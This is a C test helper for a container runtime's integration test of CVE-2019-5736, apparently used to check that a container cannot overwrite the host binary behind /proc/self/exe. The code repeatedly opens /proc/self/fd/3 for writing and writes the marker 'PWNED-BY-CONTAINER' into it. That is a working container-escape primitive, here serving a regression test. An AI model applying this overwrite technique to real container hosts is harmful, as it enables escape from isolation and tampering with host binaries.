/* SPDX-License-Identifier: Apache-2.0 */
/* Attack helper for tests/integration/selfexe.sh (CVE-2019-5736): started by fake-interp with fd 3
 * an O_PATH handle to the binary the kernel ran as the container's /proc/self/exe. For 5 seconds
 * it tries to reopen /proc/self/fd/3 for writing (ETXTBSY holds while any process still executes
 * the binary) and to write a marker into it. It reports what happened in /exe-writer.result (or
 * /tmp/exe-writer.result when the root is read-only), then on stderr, and stays 3 more seconds so
 * that the test can read the file through /proc/PID/root:
 *   target PATH        the handle's target, first
 *   WROTE              the write succeeded: the binary was modified
 *   FAILED open|write ERRNO-TEXT   the last error when the time ran out */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void report(const char *fmt, const char *a, const char *b)
{
        char line[4200];
        int n = snprintf(line, sizeof(line), fmt, a, b);
        if (n <= 0)
                return;
        int fd = open("/exe-writer.result", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
        if (fd < 0)
                fd = open("/tmp/exe-writer.result", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
        if (fd >= 0) {
                (void)!write(fd, line, (size_t)n);
                close(fd);
        }
        (void)!write(2, line, (size_t)n); /* may fail: a killed monitor held the other end */
}

static void linger(void)
{
        struct timespec ts = { 3, 0 };
        nanosleep(&ts, NULL);
}

int main(void)
{
        char target[4096];
        ssize_t n = readlink("/proc/self/fd/3", target, sizeof(target) - 1);
        target[n > 0 ? n : 0] = '\0';
        report("target %s%s\n", target, "");
        signal(SIGPIPE, SIG_IGN);
        int tries = 5 * 50;
        const char *what = "open";
        int e = 0;
        for (int i = 0; i < tries; i++) {
                int fd = open("/proc/self/fd/3", O_WRONLY | O_CLOEXEC);
                if (fd >= 0) {
                        static const char marker[] = "PWNED-BY-CONTAINER";
                        ssize_t w = pwrite(fd, marker, sizeof(marker) - 1, 0);
                        e = errno;
                        close(fd);
                        if (w > 0) {
                                report("WROTE%s%s\n", "", "");
                                linger();
                                return 0;
                        }
                        what = "write";
                } else {
                        e = errno;
                        what = "open";
                }
                struct timespec ts = { 0, 20 * 1000 * 1000 };
                nanosleep(&ts, NULL);
        }
        report("FAILED %s %s\n", what, strerror(e));
        linger();
        return 1;
}
